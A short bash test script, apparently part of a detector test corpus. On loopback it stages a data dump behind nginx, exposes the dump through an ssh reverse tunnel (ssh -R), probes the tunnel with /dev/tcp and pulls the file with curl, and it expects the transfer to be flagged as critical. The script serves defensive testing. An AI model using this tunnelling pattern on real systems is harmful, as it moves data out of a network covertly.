#!/bin/bash
# B-ssh-reverse: somebody of the sink zone fetches the dump through ssh -R.
# flow: nginx, loopback, ssh, which was there before, encrypts and writes on the connection that it made itself.
# tools: ssh sshd nginx curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
sshd_up
mkdir dumps
nginx_with "sendfile on; server { listen 127.0.0.1:$((PORT + 1)); root $W/dumps; }"
until_true serves $((PORT + 1))
there ip link set lo up
bg ssh -F ssh_config -N -R "127.0.0.1:$((PORT + 2)):127.0.0.1:$((PORT + 1))" target
until_true there bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$0"' $((PORT + 2))
mkdump
pull -m 20 --noproxy '*' "http://127.0.0.1:$((PORT + 2))/$(basename "$D")"
